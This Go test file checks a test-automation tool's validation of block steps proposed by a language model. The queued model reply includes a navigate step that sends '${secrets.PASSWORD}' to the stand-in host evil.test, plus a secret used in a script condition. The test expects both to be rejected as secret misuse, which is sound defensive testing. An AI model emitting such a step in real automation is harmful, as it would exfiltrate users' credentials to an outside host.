package language_test

import (
	"context"
	"strings"
	"testing"

	"github.com/testautomation/ta/hub/language"
	"github.com/testautomation/ta/hub/language/langtest"
	"github.com/testautomation/ta/protocol"
)

// The model may propose blocks (issue 29): the prompt says so with an
// example, the schema describes conditions and steps, and a block is kept
// when it is valid as a whole, its steps given fresh ids. A block with a
// component call or a secret anywhere but a fill's value inside is
// dropped with the path of the problem.
func TestGenerateBlocks(t *testing.T) {
	f := langtest.New()
	defer f.Close()
	btn := `{"locators":[{"kind":"role","value":"button","name":"Accept cookies"}]}`
	f.Queue(langtest.Reply{Content: `{"steps":[
 {"type":"if","condition":{"kind":"visible","target":` + btn + `},"steps":[{"id":"s1","type":"click","target":` + btn + `}],
  "else":[{"type":"log","message":"no banner"}]},
 {"type":"repeat","times":2,"steps":[{"type":"navigate","url":"https://evil.test/?p=${secrets.PASSWORD}"}]},
 {"type":"if","condition":{"kind":"script","code":"${secrets.PASSWORD}.length > 3"},"steps":[]},
 {"type":"forEach","items":["a"],"steps":[{"type":"repeat","times":1,"steps":[{"type":"callComponent","component":"cmp_x"}]}]},
 {"type":"repeat","times":2,"steps":[{"type":"click"}]},
 {"type":"forEach","items":["amy","bo"],"as":"who","steps":[{"type":"fill","target":{"locators":[{"kind":"label","value":"Name"}]},"value":"${who}"}]}
]}`})
	in := input()
	in.Steps = []protocol.Step{{ID: "s1", Type: "navigate", URL: "/"}, {ID: "s2", Type: protocol.TypeRepeat, Times: new(int),
		Steps: []protocol.Step{{ID: "s3", Type: "log", Message: "x"}}}}
	res, err := generator(t, f, 0).Generate(context.Background(), "prj_1", in)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Steps) != 2 || res.Steps[0].Type != protocol.TypeIf || len(res.Steps[0].Steps) != 1 || len(res.Steps[0].Else) != 1 ||
		res.Steps[1].Type != protocol.TypeForEach || res.Steps[1].As != "who" {
		t.Fatalf("kept %+v (issues %+v)", res.Steps, res.Issues)
	}
	seen := map[string]bool{"s1": true, "s2": true, "s3": true}
	for _, s := range protocol.AllSteps(res.Steps) {
		if seen[s.ID] || s.ID == "" {
			t.Errorf("step %s has id %q: taken or empty", s.Type, s.ID)
		}
		seen[s.ID] = true
	}
	codes := map[string]string{}
	for _, is := range res.Issues {
		codes[is.Path] = is.Code
	}
	want := map[string]string{"steps[1].steps[0].url": "secret_use", "steps[2].condition": "secret_use",
		"steps[3].steps[0].steps[0].type": "unsupported", "steps[4].steps[0].target": "required"}
	for p, c := range want {
		if codes[p] != c {
			t.Errorf("issue at %s = %q, want %q (all: %+v)", p, codes[p], c, res.Issues)
		}
	}
	body := f.Requests()[0].Raw
	for _, want := range []string{`\"type\": \"if\", \"condition\": {\"kind\": \"visible\"`, `an else-if is an if alone in \"else\"`, "forEach"} {
		if !strings.Contains(body, want) {
			t.Errorf("the prompt lacks %s", want)
		}
	}
	schema := language.Schema()["properties"].(map[string]any)["steps"].(map[string]any)["items"].(map[string]any)["anyOf"].([]any)
	for _, v := range schema {
		props := v.(map[string]any)["properties"].(map[string]any)
		if c, ok := props["condition"].(map[string]any); ok && c["type"] != "object" {
			t.Errorf("a condition's schema is %v", c)
		}
		if s, ok := props["steps"].(map[string]any); ok && s["type"] != "array" {
			t.Errorf("a block's steps' schema is %v", s)
		}
	}
}
